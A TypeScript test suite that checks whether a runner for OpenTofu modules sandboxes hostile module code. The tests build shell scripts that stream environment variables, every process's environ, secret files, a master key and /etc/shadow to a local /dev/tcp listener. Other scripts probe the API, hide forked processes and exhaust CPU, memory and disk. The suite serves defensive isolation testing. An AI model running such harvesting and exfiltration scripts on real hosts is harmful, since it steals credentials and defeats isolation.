import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { readdirSync, readFileSync } from "node:fs";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startApi, type TestApi } from "@takosumi/testkit/api";
import { deployOn, type Run } from "@takosumi/testkit/deploy";
import { startRunner, type TestRunner } from "@takosumi/testkit/runner";
import { tools } from "@takosumi/testkit/tools";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const mark = (what: string) => `${what}-${randomBytes(12).toString("hex")}`;
const host = mark("of-the-host");
/** What stands in the environment of the machine: none of it may reach the tool, and some would turn it to other things. */
const hostEnv = {
  TF_CLI_ARGS: "-no-such-flag",
  TF_CLI_ARGS_init: `-backend-config=path=/tmp/${host}.tfstate`,
  TF_CLI_ARGS_plan: `-state=/tmp/${host}.tfstate`,
  TF_CLI_ARGS_apply: `-state=/tmp/${host}.tfstate`,
  TF_CLI_CONFIG_FILE: `/tmp/${host}.tfrc`,
  TF_LOG: "TRACE",
  TF_LOG_PATH: `/tmp/${host}.log`,
  TF_VAR_given: host,
  TF_WORKSPACE: "other",
  TF_DATA_DIR: `/tmp/${host}`,
  TF_PLUGIN_CACHE_DIR: `/tmp/${host}`,
  TF_BACKEND_TYPE: "http",
  TF_HTTP_ADDRESS: `http://127.0.0.1:9/${host}`,
  TF_ENCRYPTION: host,
  TF_TOKEN_app_terraform_io: host,
  HTTP_PROXY: `http://127.0.0.1:9/${host}`,
  HTTPS_PROXY: `http://127.0.0.1:9/${host}`,
  ALL_PROXY: `http://127.0.0.1:9/${host}`,
  AWS_ACCESS_KEY_ID: host,
  AWS_SECRET_ACCESS_KEY: host,
  GOOGLE_APPLICATION_CREDENTIALS: `/tmp/${host}`,
  ARM_CLIENT_SECRET: host,
  GITHUB_TOKEN: host,
  KUBECONFIG: `/tmp/${host}`,
  SSH_AUTH_SOCK: `/tmp/${host}`,
};

/** Takes what module code sends out of its sandbox. */
class Ear {
  readonly heard: string[] = [];
  readonly #server: Server = createServer((socket) => {
    let text = "";
    socket.setEncoding("latin1");
    socket.on("data", (chunk) => {
      text += String(chunk);
    });
    socket.on("error", () => undefined);
    socket.on("close", () => this.heard.push(text));
  });
  async open(): Promise<this> {
    this.#server.listen(0, "127.0.0.1");
    await once(this.#server, "listening");
    return this;
  }
  get port(): number {
    return (this.#server.address() as { port: number }).port;
  }
  close = (): Promise<void> => new Promise((done) => this.#server.close(() => done()));
}

/** A program that tofu runs whenever it is about to read or write a state: in init, plan, show and apply. */
const spying = (script: string) => ({
  "encryption.tf": `terraform {
  encryption {
    key_provider "external" "spy" { command = ["/bin/bash", "\${path.module}/spy.sh"] }
    method "aes_gcm" "m" { keys = key_provider.external.spy }
    method "unencrypted" "u" {}
    state {
      method = method.aes_gcm.m
      fallback { method = method.unencrypted.u }
    }
  }
}
`,
  "spy.sh": `${script}
echo '{"magic":"OpenTofu-External-Key-Provider","version":1}'
cat > /dev/null
echo '{"keys":{"encryption_key":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}}'
`,
});
const executes = (command: string) => `resource "terraform_data" "a" {
  triggers_replace = timestamp()
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
${command}
    EOT
  }
}
`;

/** How many processes of this machine sleep for so long. */
const sleeping = (seconds: string): number =>
  readdirSync("/proc").filter((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, "utf8") === `sleep\0${seconds}\0`;
    } catch {
      return false;
    }
  }).length;

if (tools.tofu)
  describe("a hostile module", () => {
    let api: TestApi;
    let runner: TestRunner;
    let ear: Ear;
    let user: ReturnType<typeof deployOn>;
    const others: TestRunner[] = [];
    const directories: string[] = [];
    const bubblewrap = () => runner.process.lines.some((line) => line.msg === "ready" && JSON.stringify(line).includes("bubblewrap"));
    beforeAll(async () => {
      const lease = { TAKOSUMI_LEASE_SECONDS: "3", TAKOSUMI_LEASE_RENEW_SECONDS: "1", TAKOSUMI_LEASE_GRACE_SECONDS: "1" };
      [api, ear] = await Promise.all([startApi({ env: lease }), new Ear().open()]);
      user = deployOn(api.call);
      runner = await startRunner(api, { more: { ...hostEnv, TAKOSUMI_RUNNER_SLOTS: "3", TAKOSUMI_CANCEL_GRACE_SECONDS: "1" } });
    });
    afterAll(async () => {
      await Promise.all([runner, ...others].map((one) => one?.close()));
      await api?.close();
      await ear?.close();
      await Promise.all(directories.map((one) => rm(one, { recursive: true, force: true })));
    });
    /** A runner of a pool of its own, with other settings, and what plans there. */
    const elsewhere = async (name: string, more: Readonly<Record<string, string>>) => {
      const { runner_pool } = await user.ok("POST", "/api/runner-pools", { name });
      const { token } = await user.ok("POST", `/api/runner-pools/${runner_pool.id}/tokens`, { name });
      const dir = await mkdtemp(join(tmpdir(), "takosumi-runner-"));
      directories.push(dir);
      others.push(await startRunner({ ...api, runnerToken: token }, { dir, more }));
      return (files: Readonly<Record<string, string>>, policy: object = {}) =>
        user.capsule(files, { policy: { runner_pool: name, ...policy } });
    };
    const begun = async (capsule: string): Promise<Run> => {
      const planned = await user.plan(capsule);
      expect({ status: planned.status, error: planned.error }).toEqual({ status: "planned", error: null });
      return (await user.ok("POST", `/api/runs/${planned.id}/approve`, {})).run;
    };

    it("finds nothing of the machine, of the runner, of us, or of another Run, in any command that runs its code", async () => {
      const [theirs, file] = [mark("of-the-victim"), mark("in-the-victims-tree")];
      const victim = await user.capsule(
        { "main.tf": executes("echo waiting.; sleep 300"), "secret.txt": `${file}\n` },
        { variables: [{ name: "VICTIM_TOKEN", kind: "env", value: theirs, sensitive: true }] },
      );
      const working = await begun(victim);
      await user.until(working.id, ({ phase }) => phase === "applying");
      const asks = [
        "GET /api/runs",
        "GET /api/secrets",
        "GET /runs",
        "GET /api/audit",
        "POST /api/runner/register",
        "POST /api/runner/claim",
      ];
      const { port } = new URL(api.url);
      const spy = `exec 3<>/dev/tcp/127.0.0.1/${ear.port}
{
  echo "command $(tr '\\0' ' ' < /proc/$PPID/cmdline)"
  env
  for pid in /proc/[0-9]*; do tr '\\0' '\\n' < $pid/environ; tr '\\0' '\\n' < $pid/cmdline; done
  for at in ${runner.dir} ${api.dataDir} /root /home /var /run /tmp /etc /; do ls -la $at; done
  cat ${runner.dir}/runs/*/tree/secret.txt ${runner.dir}/runs/*/io/* ${runner.dir}/runs/*/credentials/* ${api.dataDir}/master.key
  find / -xdev -not -path '/usr/*' -not -path '/proc/*' -type f -size -64k -exec cat {} +
  for ask in ${asks.map((one) => `"${one}"`).join(" ")}; do
    exec 4<>/dev/tcp/127.0.0.1/${port}
    printf '%s HTTP/1.0\\r\\nhost: 127.0.0.1:${port}\\r\\ncontent-type: application/json\\r\\ncontent-length: 2\\r\\n\\r\\n{}' "$ask" >&4
    echo "answer $ask: $(head -1 <&4)"
    exec 4<&-
  done
} >&3 2>&1
exec 3>&-`;
      const capsule = await user.capsule({ ...spying(spy), "main.tf": executes("bash spy.sh < /dev/null") });
      const applied = await user.until((await begun(capsule)).id);
      expect(applied.status).toBe("succeeded");
      const told = ear.heard.join("\n");
      for (const command of ["plan", "show", "apply"]) expect(told).toMatch(new RegExp(`^command \\S*tofu ${command}`, "m"));
      expect(told).toContain("TF_IN_AUTOMATION=1");
      for (const ask of asks) expect(told).toContain(`answer ${ask}: HTTP/1.1 401`);
      const keys = await readFile(join(api.dataDir, "master.key"), "utf8");
      for (const secret of [api.token, api.runnerToken, keys.trim(), host]) expect(told).not.toContain(secret);
      expect(told).not.toMatch(/TF_CLI_ARGS|TF_LOG|TF_VAR_|TF_WORKSPACE|TAKOSUMI_|_PROXY=|AWS_|GITHUB_TOKEN|DATABASE_URL/);
      // Without a sandbox only the environment is kept from it, and the Run says so.
      if (bubblewrap()) for (const secret of [theirs, file]) expect(told).not.toContain(secret);
      else expect(applied.isolation.not_isolated).toContain("files of this machine are not isolated");
      await user.ok("POST", `/api/runs/${working.id}/cancel`, {});
      await user.until(working.id);
    });

    /** What the data source `external` runs while a plan is made, for its answer: everything that it sees. */
    const external = {
      "main.tf": `terraform {
  required_providers {
    external = { source = "hashicorp/external" }
  }
}
data "external" "spy" { program = ["/bin/bash", "\${path.module}/spy.sh"] }
output "told" { value = data.external.spy.result.told }
resource "terraform_data" "a" {}
`,
    };
    const answering = (script: string) =>
      `cat > /dev/null; told=$( { ${script}; } 2>&1 | od -An -v -tx1 | tr -d ' \\n'); printf '{"told":"%s"}' "$told"\n`;
    const told = async (capsule: string): Promise<string> => {
      const { outputs } = await user.ok("GET", `/api/outputs/${capsule}`);
      const { value }: { value: string } = outputs.find((one: { name: string }) => one.name === "told");
      return value
        .split(/\[redacted [^\]]*\]/)
        .map((bytes) => Buffer.from(bytes, "hex").toString())
        .join("[redacted]");
    };

    it.runIf(tools.mirror)("sees nothing through the data source external, and reaches nobody where there is no network", async () => {
      const own = mark("its-own-secret");
      const variables = [{ name: "OWN_TOKEN", kind: "env", value: own, sensitive: true }];
      const { port } = new URL(api.url);
      const look = `id -u; env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline ${api.dataDir}/master.key ${runner.dir}/token /etc/shadow | tr '\\0' '\\n'
ls -A ${runner.dir} ${api.dataDir} /root /home
(exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET /api/runs HTTP/1.0\\r\\n\\r\\n' >&3 && head -1 <&3)`;
      const files = { ...external, "spy.sh": answering(look) };
      const open = await user.capsule(files, { variables });
      expect((await user.until((await begun(open)).id)).status).toBe("succeeded");
      const seen = await told(open);
      expect(seen).toContain("TF_IN_AUTOMATION=1");
      expect(seen).toContain("HTTP/1.1 401");
      const keys = await readFile(join(api.dataDir, "master.key"), "utf8");
      for (const secret of [api.token, api.runnerToken, keys.trim(), host]) expect(seen).not.toContain(secret);
      if (!bubblewrap()) return;
      expect(seen).not.toMatch(/^0$/m);
      expect(seen.match(/No such file or directory/g)?.length).toBeGreaterThan(5);

      const capsule = await elsewhere("cut-off-external", { TAKOSUMI_SANDBOX_NETWORK: "none" });
      const alone = await capsule(files);
      expect((await user.until((await begun(alone)).id)).status).toBe("succeeded");
      const silent = await told(alone);
      expect(silent).toContain("TF_IN_AUTOMATION=1");
      expect(silent).not.toContain("HTTP/1.1");
      expect(silent).toMatch(/Connection refused|Network is unreachable/);
    });

    it("reads nothing else with the language itself, and its own secrets are not shown", async () => {
      const own = mark("its-own-secret");
      const functions = {
        "main.tf": `output "environ" { value = try(file("/proc/self/environ"), "refused") }
output "init" { value = try(file("/proc/1/environ"), "refused") }
output "others" { value = join(" ", [for f in fileset("/proc", "*/environ") : try(file("/proc/\${f}"), "refused")]) }
output "key" { value = try(file("${api.dataDir}/master.key"), "refused") }
output "runs" { value = join(" ", fileset("${runner.dir}", "**")) }
output "home" { value = join(" ", concat(tolist(fileset("/root", "**")), tolist(fileset("/home", "**")))) }
resource "terraform_data" "a" {}
`,
      };
      const variables = [{ name: "OWN_TOKEN", kind: "env", value: own, sensitive: true }];
      const capsule = await user.capsule(functions, { variables });
      const applied = await user.until((await begun(capsule)).id);
      expect(applied.status).toBe("succeeded");
      const { outputs } = await user.ok("GET", `/api/outputs/${capsule}`);
      const value = (name: string): string => outputs.find((one: { name: string }) => one.name === name).value;
      expect(value("environ")).toContain("TF_IN_AUTOMATION=1");
      expect(value("environ")).toContain("OWN_TOKEN=[redacted OWN_TOKEN]");
      const told = JSON.stringify([outputs, await user.log(applied), await user.ok("GET", `/api/runs/${applied.id}/events?limit=1000`)]);
      for (const secret of [host, own, api.token, api.runnerToken]) expect(told).not.toContain(secret);
      if (bubblewrap()) expect([value("key"), value("runs"), value("home")]).toEqual(["refused", "", ""]);
    });

    it("leaves nobody behind who forked twice into a session of their own: not after a cancel, nor after the lease is lost", async () => {
      for (const [how, seconds] of [
        ["cancel", `8${process.pid}`],
        ["lost", `9${process.pid}`],
      ] as const) {
        const hides = `env -i setsid sh -c 'sh -c "sleep ${seconds} & exit 0" & exit 0'; trap '' INT TERM; echo hidden.; sleep ${seconds}1`;
        const run = await begun(await user.capsule({ "main.tf": executes(hides) }));
        await expect.poll(() => sleeping(seconds), { timeout: 20_000 }).toBe(1);
        if (how === "cancel") {
          await user.ok("POST", `/api/runs/${run.id}/cancel`, {});
          expect((await user.until(run.id)).status).toBe("cancelled");
        } else await api.database.db.prisma.runs.update({ where: { id: run.id }, data: { lease_epoch: { increment: 1 } } });
        await expect.poll(() => sleeping(seconds) + sleeping(`${seconds}1`), { timeout: 20_000 }).toBe(0);
      }
    });

    it("without a network reaches nobody, whichever way it tries", async () => {
      const capsule = await elsewhere("cut-off", { TAKOSUMI_SANDBOX_NETWORK: "none" });
      if (!bubblewrap()) return;
      const before = ear.heard.length;
      const call = `(exec 3<>/dev/tcp/127.0.0.1/${ear.port} && echo reached >&3) 2>> said || true`;
      const read = 'output "net" { value = file("/proc/net/dev") }\noutput "route" { value = file("/proc/net/route") }\n';
      const tries = await capsule({
        ...spying(call),
        "main.tf": executes(`${call}; cat said /proc/net/dev; echo tried.`),
        "read.tf": read,
      });
      const applied = await user.until((await begun(tries)).id);
      expect(applied.status).toBe("succeeded");
      const log = await user.log(applied);
      expect(log).toContain("tried.");
      expect(log).toMatch(/Connection refused|Network is unreachable/);
      expect(Array.from(log.matchAll(/\(local-exec\): +(\w+): +\d/g), ([, name]) => name)).toEqual(["lo"]);
      const { outputs } = await user.ok("GET", `/api/outputs/${tries}`);
      const [net, route] = ["net", "route"].map((name) => outputs.find((one: { name: string }) => one.name === name).value as string);
      expect(net?.match(/^ *\w+:/gm)?.map((name) => name.trim())).toEqual(["lo:"]);
      expect(route?.trim().split("\n")).toHaveLength(1);
      const remote = `data "terraform_remote_state" "r" {\n  backend = "http"\n  config  = { address = "http://127.0.0.1:${ear.port}/" }\n}\n`;
      expect(await user.plan(await capsule({ "main.tf": remote }))).toMatchObject({ status: "failed", error: { code: "PLAN_FAILED" } });
      expect(ear.heard).toHaveLength(before);
    });

    describe("that wants more than it may", () => {
      let capsule: Awaited<ReturnType<typeof elsewhere>>;
      const tight = {
        TAKOSUMI_RUN_OUTPUT_STOP_BYTES: "1000000",
        TAKOSUMI_RUN_CPU_SECONDS: "3",
        TAKOSUMI_RUN_PROCESSES: "100",
        TAKOSUMI_RUN_FILE_BYTES: String(8 * 1024 * 1024),
        TAKOSUMI_RUN_DISK_BYTES: String(32 * 1024 * 1024),
        TAKOSUMI_RUN_MEMORY_BYTES: String(256 * 1024 * 1024),
        TAKOSUMI_CANCEL_GRACE_SECONDS: "1",
      };
      beforeAll(async () => {
        capsule = await elsewhere("tight", tight);
      });
      const greedy: readonly [what: string, command: string, code: string, setting: string, policy?: object][] = [
        ["output", "yes 'a line of many' | head -c 100000; sleep 120", "OUTPUT_LIMIT", "TAKOSUMI_RUN_OUTPUT_STOP_BYTES"],
        ["CPU time", "while :; do :; done", "CPU_LIMIT", "TAKOSUMI_RUN_CPU_SECONDS"],
        ["processes", "for i in $(seq 200); do sleep 20 & done; wait", "PROCESS_LIMIT", "TAKOSUMI_RUN_PROCESSES"],
        ["a file", "head -c 20000000 /dev/zero > big", "DISK_LIMIT", "TAKOSUMI_RUN_FILE_BYTES"],
        [
          "disk",
          "for i in 1 2 3 4 5 6 7 8; do head -c 7000000 /dev/zero > part-$i; done; sleep 60",
          "DISK_LIMIT",
          "TAKOSUMI_RUN_DISK_BYTES",
        ],
        ["memory", "head -c 600000000 /dev/zero | tail -c 600000000 > /dev/null", "MEMORY_LIMIT", "TAKOSUMI_RUN_MEMORY_BYTES"],
        ["time", "sleep 120", "TIMEOUT", "policy.timeout", { timeout: "10s" }],
      ];
      it.each(greedy)("of %s: ends, and is told what it wanted too much of", async (_, command, code, setting, policy) => {
        const run = await user.until((await begun(await capsule({ "main.tf": executes(command) }, policy))).id);
        expect({ status: run.status, code: run.error.code, message: run.error.message }).toEqual({
          status: "failed",
          code,
          message: expect.stringContaining(setting),
        });
      });
    });
  });
